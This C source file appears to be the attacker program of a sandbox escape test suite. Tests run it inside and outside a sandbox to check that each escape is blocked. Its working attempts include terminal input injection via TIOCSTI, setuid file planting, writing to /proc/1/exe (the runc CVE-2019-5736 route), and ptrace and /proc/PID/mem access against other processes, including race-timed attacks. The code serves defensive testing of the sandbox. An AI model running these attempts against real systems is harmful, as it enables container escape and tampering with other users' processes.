/* The escape suite's attacker: one small program, one subcommand per attack. Compiled by the
 * tests at run time (cc), run inside the sandbox and outside it (the proof that the attack works
 * when nothing stops it). Every subcommand prints one line per attempt:
 *   NAME ok            the call succeeded
 *   NAME err ERRNAME   the call failed with that errno
 * and exits 0, unless the kernel kills it (seccomp kill → SIGSYS). */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <dirent.h>
#include <unistd.h>
#include <sys/ioctl.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <netinet/in.h>
#include <arpa/inet.h>
#include <linux/sched.h>
#include <linux/io_uring.h>
#include <sys/mman.h>
#include <time.h>
#include <stddef.h>

static const char *ename(int e) {
    switch (e) {
    case EPERM: return "EPERM"; case ENOENT: return "ENOENT"; case ESRCH: return "ESRCH";
    case EACCES: return "EACCES"; case EROFS: return "EROFS"; case ENOSYS: return "ENOSYS";
    case EINVAL: return "EINVAL"; case ENOTTY: return "ENOTTY"; case EBADF: return "EBADF";
    case EFAULT: return "EFAULT"; case ECONNREFUSED: return "ECONNREFUSED"; case ENETUNREACH: return "ENETUNREACH";
    case ETXTBSY: return "ETXTBSY"; case EIO: return "EIO"; case ENOTDIR: return "ENOTDIR";
    case ELOOP: return "ELOOP"; case EXDEV: return "EXDEV"; case EBUSY: return "EBUSY";
    case EAGAIN: return "EAGAIN"; case ENOMEM: return "ENOMEM"; case EOPNOTSUPP: return "EOPNOTSUPP";
    default: { static char b[32]; snprintf(b, sizeof b, "E%d", e); return b; }
    }
}

static void report(const char *name, long r) {
    if (r < 0) printf("%s err %s\n", name, ename(errno));
    else printf("%s ok\n", name);
    fflush(stdout);
}

/* Raw i386 system call through int 0x80: returns the kernel's value (-errno on failure). */
static long int80(long nr, long a, long b, long c) {
    long ax = nr;
    __asm__ volatile("int $0x80" : "+a"(ax) : "b"(a), "c"(b), "d"(c) : "memory");
    return ax;
}

/* One io_uring operation, through raw system calls (no liburing): set up a ring, submit SQE,
 * wait for its completion. Returns the setup's result (<0: errno set) and the CQE's in *res. */
static long uring_once(const struct io_uring_sqe *op, int *res) {
    struct io_uring_params p;
    memset(&p, 0, sizeof p);
    long fd = syscall(SYS_io_uring_setup, 4, &p);
    if (fd < 0) return fd;
    size_t sqsz = p.sq_off.array + p.sq_entries * sizeof(unsigned);
    size_t cqsz = p.cq_off.cqes + p.cq_entries * sizeof(struct io_uring_cqe);
    if (p.features & IORING_FEAT_SINGLE_MMAP) { if (cqsz > sqsz) sqsz = cqsz; cqsz = sqsz; }
    char *sq = mmap(0, sqsz, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, fd, IORING_OFF_SQ_RING);
    char *cq = (p.features & IORING_FEAT_SINGLE_MMAP) ? sq :
        mmap(0, cqsz, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, fd, IORING_OFF_CQ_RING);
    struct io_uring_sqe *sqes = mmap(0, p.sq_entries * sizeof *sqes, PROT_READ | PROT_WRITE,
                                     MAP_SHARED | MAP_POPULATE, fd, IORING_OFF_SQES);
    if (sq == MAP_FAILED || cq == MAP_FAILED || sqes == MAP_FAILED) { *res = -ENOMEM; return 0; }
    unsigned *tail = (unsigned *)(sq + p.sq_off.tail), mask = *(unsigned *)(sq + p.sq_off.ring_mask);
    unsigned idx = *tail & mask;
    sqes[idx] = *op;
    ((unsigned *)(sq + p.sq_off.array))[idx] = idx;
    __atomic_store_n(tail, *tail + 1, __ATOMIC_RELEASE);
    if (syscall(SYS_io_uring_enter, fd, 1, 1, IORING_ENTER_GETEVENTS, NULL, 0) < 0) { *res = -errno; return 0; }
    unsigned *head = (unsigned *)(cq + p.cq_off.head);
    unsigned cmask = *(unsigned *)(cq + p.cq_off.ring_mask);
    struct io_uring_cqe *cqes = (struct io_uring_cqe *)(cq + p.cq_off.cqes);
    *res = cqes[*head & cmask].res;
    __atomic_store_n(head, *head + 1, __ATOMIC_RELEASE);
    return 0;
}

static void report_res(const char *name, int res) {
    if (res < 0) { errno = -res; report(name, -1); } else report(name, 0);
}

static double now(void) {
    struct timespec t;
    clock_gettime(CLOCK_MONOTONIC, &t);
    return t.tv_sec + t.tv_nsec / 1e9;
}

/* The name a process runs under (its comm), "" when it is gone or a zombie. */
static void comm_of(int pid, char *out, size_t n) {
    char path[64], st[512];
    out[0] = 0;
    snprintf(path, sizeof path, "/proc/%d/stat", pid);
    int fd = open(path, O_RDONLY);
    if (fd < 0) return;
    ssize_t r = read(fd, st, sizeof st - 1);
    close(fd);
    st[r > 0 ? r : 0] = 0;
    char *open_p = strchr(st, '('), *close_p = strrchr(st, ')');
    if (!open_p || !close_p || close_p[1] != ' ' || close_p[2] == 'Z' || close_p[2] == 'X') return;
    size_t len = close_p - open_p - 1;
    if (len >= n) len = n - 1;
    memcpy(out, open_p + 1, len);
    out[len] = 0;
}

/* Whether /proc/PID/exe names a file called NAME. */
static int exe_is(int pid, const char *name) {
    char path[64], target[4096];
    snprintf(path, sizeof path, "/proc/%d/exe", pid);
    ssize_t n = readlink(path, target, sizeof target - 1);
    if (n <= 0) return 0;
    target[n] = 0;
    const char *base = strrchr(target, '/');
    base = base ? base + 1 : target;
    return !strcmp(base, name) || (!strncmp(base, name, strlen(name)) && !strcmp(base + strlen(name), " (deleted)"));
}

/* Plants a copy of SRC at PATH (created 0755, no special bits). */
static int plant(const char *src, const char *path) {
    int in = open(src, O_RDONLY | O_CLOEXEC);
    if (in < 0) return -1;
    int out = syscall(SYS_openat, AT_FDCWD, path, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0755);
    if (out < 0) { close(in); return -1; }
    char b[65536];
    ssize_t n;
    while ((n = read(in, b, sizeof b)) > 0) if (write(out, b, n) != n) break;
    close(in);
    return out;
}

/* Verdict of one set-id attempt: ok only if the call succeeded AND the file has the bit. */
static void setid_report(const char *name, long r, const char *path) {
    struct stat st;
    if (r < 0) { report(name, r); return; }
    if (stat(path, &st) == 0 && (st.st_mode & (S_ISUID | S_ISGID))) printf("%s ok\n", name);
    else printf("%s err NOBIT\n", name);
    fflush(stdout);
}

int main(int argc, char **argv) {
    if (argc < 2) { fprintf(stderr, "usage: attack WHAT [ARGS]\n"); return 2; }
    const char *w = argv[1];
    if ((!strcmp(w, "privfs") || !strcmp(w, "mountapi")) &&
        (argc < 3 || !getenv("ESCAPE_THROWAWAY"))) {
        /* These really mount: never on the host by accident. */
        fprintf(stderr, "attack %s DIR needs ESCAPE_THROWAWAY=1 (a sandbox or unshare -Urm)\n", w);
        return 2;
    }
    setvbuf(stdout, NULL, _IOLBF, 0);

    if (!strcmp(w, "tiocsti")) {
        /* attack tiocsti FD HIGHBITS: push "id\n" into the terminal at FD */
        int fd = atoi(argv[2]);
        unsigned long req = TIOCSTI | strtoul(argv[3], NULL, 0);
        const char *s = "id\n";
        long r = 0;
        for (const char *p = s; *p && r == 0; p++) r = syscall(SYS_ioctl, fd, req, p);
        report("tiocsti", r);
    } else if (!strcmp(w, "tioclinux")) {
        /* attack tioclinux FD HIGHBITS: selection paste (subcode 3), the CVE-2023-28100 route */
        int fd = atoi(argv[2]);
        unsigned long req = TIOCLINUX | strtoul(argv[3], NULL, 0);
        char sub = 3;
        report("tioclinux", syscall(SYS_ioctl, fd, req, &sub));
    } else if (!strcmp(w, "setid")) {
        /* attack setid DIR SRC: every way to leave a set-user/group-ID copy of SRC in DIR */
        const char *dir = argv[2], *src = argv[3];
        char p[4096];
        int fd;
#define AT(n) (snprintf(p, sizeof p, "%s/%s", dir, n), p)
        /* Files created with the mode stay empty: a write by a non-root owner would clear the
         * bits again (the kernel's file_remove_privs), so the mode is what is tested. */
#ifdef SYS_chmod
        fd = plant(src, AT("chmod")); if (fd >= 0) close(fd);
        setid_report("chmod", syscall(SYS_chmod, p, 04755), p);
        fd = plant(src, AT("chmod-hi")); if (fd >= 0) close(fd);
        setid_report("chmod-hi", syscall(SYS_chmod, p, 0x100000000UL | 04755), p);
#endif
        fd = plant(src, AT("fchmod"));
        setid_report("fchmod", fd < 0 ? -1 : syscall(SYS_fchmod, fd, 02755), p);
        if (fd >= 0) close(fd);
        fd = plant(src, AT("fchmodat")); if (fd >= 0) close(fd);
        setid_report("fchmodat", syscall(SYS_fchmodat, AT_FDCWD, p, 04755, 0), p);
        fd = plant(src, AT("fchmodat2")); if (fd >= 0) close(fd);
        setid_report("fchmodat2", syscall(452, AT_FDCWD, p, 06755, 0), p);
#ifdef SYS_creat
        fd = syscall(SYS_creat, AT("creat"), 04755);
        if (fd >= 0) close(fd);
        setid_report("creat", fd, p);
#endif
#ifdef SYS_open
        fd = syscall(SYS_open, AT("open"), O_WRONLY | O_CREAT | O_EXCL, 04755);
        if (fd >= 0) close(fd);
        setid_report("open", fd, p);
#endif
        fd = syscall(SYS_openat, AT_FDCWD, AT("openat"), O_WRONLY | O_CREAT | O_EXCL, 02755);
        if (fd >= 0) close(fd);
        setid_report("openat", fd, p);
        {
            struct { unsigned long long flags, mode, resolve; } how = { O_WRONLY | O_CREAT | O_EXCL, 04755, 0 };
            fd = syscall(437, AT_FDCWD, AT("openat2"), &how, sizeof how);
            if (fd >= 0) close(fd);
            setid_report("openat2", fd, p);
        }
#ifdef SYS_mknod
        setid_report("mknod", syscall(SYS_mknod, AT("mknod"), S_IFREG | 04755, 0), p);
#endif
        setid_report("mknodat", syscall(SYS_mknodat, AT_FDCWD, AT("mknodat"), S_IFREG | 06755, 0), p);
#undef AT
    } else if (!strcmp(w, "socket-hi")) {
        /* attack socket-hi: socket(0x100000002, SOCK_STREAM, 0), AF_INET with high garbage */
        report("socket-hi", syscall(SYS_socket, 0x100000002UL, SOCK_STREAM, 0));
    } else if (!strcmp(w, "x32")) {
        long r = syscall(0x40000000 | 39); /* x32 getpid */
        report("x32-getpid", r);
    } else if (!strcmp(w, "int80")) {
        /* attack int80 NR: an i386 system call with zero arguments; prints the raw result */
        long nr = strtol(argv[2], NULL, 0);
        long r = int80(nr, 0, 0, 0);
        printf("int80 %ld ret %ld pid %d\n", nr, r, getpid());
    } else if (!strcmp(w, "fds")) {
        /* attack fds N: is descriptor N reachable; list /proc/self/fd */
        int n = atoi(argv[2]);
        struct stat st;
        report("fstat", fstat(n, &st));
        char b[16];
        report("read", read(n, b, sizeof b));
        DIR *d = opendir("/proc/self/fd");
        if (!d) { report("opendir", -1); return 0; }
        int own = dirfd(d);
        struct dirent *e;
        printf("fds");
        while ((e = readdir(d))) {
            if (e->d_name[0] == '.') continue;
            if (atoi(e->d_name) == own) continue;
            printf(" %s", e->d_name);
        }
        printf("\n");
    } else if (!strcmp(w, "ns")) {
        /* attack ns KIND: one way of making or joining a namespace, in a fresh process */
        const char *k = argv[2];
        static const struct { const char *n; int f; } u[] = {
            {"user", CLONE_NEWUSER}, {"mount", CLONE_NEWNS}, {"net", CLONE_NEWNET}, {"pid", CLONE_NEWPID},
            {"uts", CLONE_NEWUTS}, {"ipc", CLONE_NEWIPC}, {"cgroup", CLONE_NEWCGROUP}};
        for (unsigned i = 0; i < sizeof u / sizeof u[0]; i++)
            if (!strcmp(k, u[i].n)) report(k, unshare(u[i].f));
        if (!strcmp(k, "clone")) {
            long pid = syscall(SYS_clone, CLONE_NEWUSER | SIGCHLD, 0, 0, 0, 0);
            if (pid == 0) _exit(0);
            if (pid > 0) waitpid(pid, NULL, 0);
            report(k, pid);
        } else if (!strcmp(k, "clone3")) {
            struct clone_args ca;
            memset(&ca, 0, sizeof ca);
            ca.flags = CLONE_NEWUSER;
            ca.exit_signal = SIGCHLD;
            long pid = syscall(SYS_clone3, &ca, sizeof ca);
            if (pid == 0) _exit(0);
            if (pid > 0) waitpid(pid, NULL, 0);
            report(k, pid);
        } else if (!strcmp(k, "setns")) {
            int fd = open("/proc/self/ns/mnt", O_RDONLY);
            report(k, setns(fd, CLONE_NEWNS));
        }
    } else if (!strcmp(w, "unshare-user")) {
        report("unshare-user", unshare(CLONE_NEWUSER));
    } else if (!strcmp(w, "mountapi")) {
        /* attack mountapi DIR: the new mount API. Really mounts on DIR: outside the sandbox
         * only under `unshare -Urm --fork` (see the guard below). */
        long fs = syscall(SYS_fsopen, "tmpfs", 0);
        report("fsopen", fs);
        if (fs >= 0) {
            report("fsconfig", syscall(SYS_fsconfig, fs, 6 /*FSCONFIG_CMD_CREATE*/, 0, 0, 0));
            long m = syscall(SYS_fsmount, fs, 0, 0);
            report("fsmount", m);
            if (m >= 0) report("move_mount", syscall(SYS_move_mount, m, "", AT_FDCWD, argv[2], 4 /*MOVE_MOUNT_F_EMPTY_PATH*/));
        }
        report("open_tree", syscall(SYS_open_tree, AT_FDCWD, "/", 1 /*OPEN_TREE_CLONE*/ | 0x8000 /*AT_RECURSIVE*/));
        report("fspick", syscall(SYS_fspick, AT_FDCWD, "/", 0));
    } else if (!strcmp(w, "exe")) {
        /* attack exe: reopen the launcher writable (runc CVE-2019-5736) */
        report("open-self-exe-w", open("/proc/self/exe", O_WRONLY));
        report("open-1-exe-w", open("/proc/1/exe", O_WRONLY));
        report("open-1-exe-rw", open("/proc/1/exe", O_RDWR));
        report("open-ppid-exe-w", open("/proc/self/../1/exe", O_WRONLY | O_APPEND));
        int r = open("/proc/1/exe", O_RDONLY);
        report("open-1-exe-r", r);
        if (r >= 0) {
            char p[64];
            snprintf(p, sizeof p, "/proc/self/fd/%d", r);
            report("reopen-fd-w", open(p, O_WRONLY));
        }
    } else if (!strcmp(w, "open-w")) {
        /* attack open-w PATH: open an existing file for writing (no truncation) */
        report("open-w", open(argv[2], O_WRONLY));
    } else if (!strcmp(w, "host")) {
        /* attack host PID: signal and ptrace a process */
        pid_t p = atoi(argv[2]);
        report("kill0", kill(p, 0));
        report("ptrace-attach", ptrace(PTRACE_ATTACH, p, 0, 0));
        char path[64];
        snprintf(path, sizeof path, "/proc/%d/environ", p);
        report("read-environ", open(path, O_RDONLY));
    } else if (!strcmp(w, "abstract")) {
        /* attack abstract NAME: connect to the abstract unix socket @NAME and read a line */
        int s = socket(AF_UNIX, SOCK_STREAM, 0);
        struct sockaddr_un a;
        memset(&a, 0, sizeof a);
        a.sun_family = AF_UNIX;
        size_t n = strlen(argv[2]);
        memcpy(a.sun_path + 1, argv[2], n);
        long r = connect(s, (struct sockaddr *)&a, offsetof(struct sockaddr_un, sun_path) + 1 + n);
        report("connect", r);
        alarm(5); /* a server that waits for the client to speak first (X11) */
        if (r == 0) { char b[64] = {0}; if (read(s, b, sizeof b - 1) > 0) printf("got %s\n", b); }
    } else if (!strcmp(w, "tcp")) {
        /* attack tcp PORT: connect to 127.0.0.1:PORT and read a line */
        int s = socket(AF_INET, SOCK_STREAM, 0);
        struct sockaddr_in a;
        memset(&a, 0, sizeof a);
        a.sin_family = AF_INET;
        a.sin_port = htons(atoi(argv[2]));
        a.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
        long r = connect(s, (struct sockaddr *)&a, sizeof a);
        report("connect", r);
        if (r == 0) { char b[64] = {0}; if (read(s, b, sizeof b - 1) > 0) printf("got %s\n", b); }
    } else if (!strcmp(w, "privfs")) {
        /* attack privfs DIR: mount/chroot/pivot_root. Outside the sandbox ONLY under
         * `unshare -Urm --fork` (a throwaway namespace): it really mounts. */
        const char *d = argv[2];
        long r = mount("none", d, "tmpfs", 0, NULL);
        report("mount", r);
        if (r == 0) {
            char old[256];
            snprintf(old, sizeof old, "%s/old", d);
            mkdir(old, 0700);
            report("pivot_root", syscall(SYS_pivot_root, d, old));
        } else {
            report("pivot_root", syscall(SYS_pivot_root, d, d));
        }
        report("chroot", chroot("/"));
    } else if (!strcmp(w, "privk")) {
        /* attack privk [PID]: keyctl, bpf, perf_event_open, ptrace of an own child and of PID */
        report("keyctl", syscall(SYS_keyctl, 0 /*KEYCTL_GET_KEYRING_ID*/, -3 /*session*/, 1));
        report("add_key", syscall(SYS_add_key, "user", "escape", "x", 1, -3));
        union { unsigned int cmd; char pad[128]; } attr;
        memset(&attr, 0, sizeof attr);
        struct { unsigned int map_type, key_size, value_size, max_entries; } *m = (void *)&attr;
        m->map_type = 2; m->key_size = 4; m->value_size = 4; m->max_entries = 1; /* ARRAY */
        report("bpf", syscall(SYS_bpf, 0 /*BPF_MAP_CREATE*/, &attr, 72));
        struct { unsigned int type, size; unsigned long config; char pad[128]; } pe;
        memset(&pe, 0, sizeof pe);
        pe.type = 1; /* PERF_TYPE_SOFTWARE */
        pe.size = 112;
        pe.config = 0; /* CPU_CLOCK */
        report("perf_event_open", syscall(SYS_perf_event_open, &pe, 0, -1, -1, 0));
        pid_t c = fork();
        if (c == 0) { pause(); _exit(0); }
        report("ptrace-attach-child", ptrace(PTRACE_ATTACH, c, 0, 0));
        kill(c, SIGKILL);
        waitpid(c, NULL, 0);
        if (argc > 2) report("ptrace-attach-pid", ptrace(PTRACE_ATTACH, atoi(argv[2]), 0, 0));
    } else if (!strcmp(w, "signal")) {
        /* attack signal PID: signal 0 and SIGTERM to a process */
        pid_t p = atoi(argv[2]);
        report("kill-0", kill(p, 0));
        report("kill-term", kill(p, SIGTERM));
    } else if (!strcmp(w, "uring")) {
        /* attack uring PATH: socket() and openat(PATH, O_WRONLY) through io_uring, then directly */
        struct io_uring_sqe op;
        int res = 0;
        memset(&op, 0, sizeof op);
        op.opcode = IORING_OP_SOCKET;
        op.fd = AF_INET;
        op.off = SOCK_STREAM;
        long r = uring_once(&op, &res);
        report("io_uring_setup", r);
        if (r < 0) return 0;
        report_res("uring-socket", res);
        memset(&op, 0, sizeof op);
        op.opcode = IORING_OP_OPENAT;
        op.fd = AT_FDCWD;
        op.addr = (unsigned long)argv[2];
        op.open_flags = O_WRONLY;
        uring_once(&op, &res);
        report_res("uring-openat", res);
        report("socket", socket(AF_INET, SOCK_STREAM, 0));
        report("openat", openat(AT_FDCWD, argv[2], O_WRONLY));
    } else if (!strcmp(w, "personality")) {
        /* attack personality VALUE...: personality(2) with each full 64-bit value */
        for (int i = 2; i < argc; i++) {
            char name[64];
            snprintf(name, sizeof name, "personality-%s", argv[i]);
            report(name, syscall(SYS_personality, strtoull(argv[i], NULL, 0)));
        }
    } else if (!strcmp(w, "prowl")) {
        /* attack prowl SECONDS COMM [STOPFILE]: watch /proc for new processes. While one is still named
         * COMM (a joiner that has not exec'd yet), attack it over and over: open /proc/PID/mem
         * (for reading: the sandbox's /proc is read-only, and reading a process's memory needs the
         * same ptrace access as writing it) and PTRACE_ATTACH; print "prowl-hit PID COMM HOW" for each success.
         * Once it has exec'd, try /proc/PID/mem once more ("prowl-reach": the attack works on
         * a process it can reach). Ends with "prowl-seen N" (joiners caught before exec) and
         * "prowl-reach N". Stops after SECONDS, or as soon as STOPFILE exists. */
        double end = now() + atof(argv[2]);
        const char *want = argv[3];
        static char state[1 << 22]; /* 0 new, 1 there at start, 2 done, 3 caught before exec */
        int nseen = 0, nreach = 0;
        struct dirent *e;
        DIR *d = opendir("/proc");
        while (d && (e = readdir(d))) { int p = atoi(e->d_name); if (p > 0 && p < (1 << 22)) state[p] = 1; }
        if (d) closedir(d);
        printf("prowl ready\n");
        fflush(stdout);
        while (now() < end && !(argc > 4 && access(argv[4], F_OK) == 0)) {
            d = opendir("/proc");
            if (!d) break;
            while ((e = readdir(d))) {
                int p = atoi(e->d_name);
                if (p <= 0 || p >= (1 << 22) || p == getpid() || state[p] == 1 || state[p] == 2) continue;
                char c[64], path[64];
                comm_of(p, c, sizeof c);
                /* A success counts when the process still runs COMMs program (its exe): exec
                 * switches the exe before it makes the process dumpable and renames it, so a
                 * success at that boundary reaches the new program, not the joiner. */
                int hit = 0;
                while (!hit && !strcmp(c, want)) {
                    if (state[p] != 3) { nseen++; state[p] = 3; }
                    snprintf(path, sizeof path, "/proc/%d/mem", p);
                    int m = open(path, O_RDONLY);
                    if (m >= 0) {
                        if (exe_is(p, want)) { printf("prowl-hit %d %s mem\n", p, c); hit = 1; }
                        close(m);
                    }
                    if (!hit && ptrace(PTRACE_ATTACH, p, 0, 0) == 0) {
                        if (exe_is(p, want)) { printf("prowl-hit %d %s ptrace\n", p, c); hit = 1; }
                        /* Let it go at once: wait for a stop (or its end), detach, continue (the
                         * attach's SIGSTOP may still be pending after an exec's SIGTRAP). */
                        if (waitpid(p, NULL, __WALL) == p) ptrace(PTRACE_DETACH, p, 0, 0);
                        kill(p, SIGCONT);
                    }
                    if (!hit) comm_of(p, c, sizeof c);
                }
                while (hit && !strcmp(c, want)) { usleep(1000); comm_of(p, c, sizeof c); }
                if (!c[0]) continue; /* gone, or not ours to read */
                snprintf(path, sizeof path, "/proc/%d/mem", p);
                int m = open(path, O_RDONLY);
                if (m >= 0) { nreach++; close(m); }
                state[p] = 2;
            }
            closedir(d);
            fflush(stdout);
        }
        printf("prowl-seen %d\nprowl-reach %d\n", nseen, nreach);
    } else if (!strcmp(w, "euid")) {
        printf("euid %d uid %d\n", geteuid(), getuid());
    } else {
        fprintf(stderr, "attack: unknown %s\n", w);
        return 2;
    }
    return 0;
}
